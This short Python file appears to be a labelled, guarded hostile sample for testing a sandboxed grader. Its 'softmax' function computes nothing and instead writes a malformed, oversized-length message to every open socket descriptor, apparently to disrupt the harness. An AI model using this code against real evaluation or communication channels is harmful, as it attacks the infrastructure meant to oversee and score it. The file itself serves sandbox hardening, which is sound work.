"""A message that says it is huge.

The header of a message promises 16 exabytes.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import stat


def softmax(z):
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff" * 12 + b"[1, []]")
        except OSError:
            pass
    return z
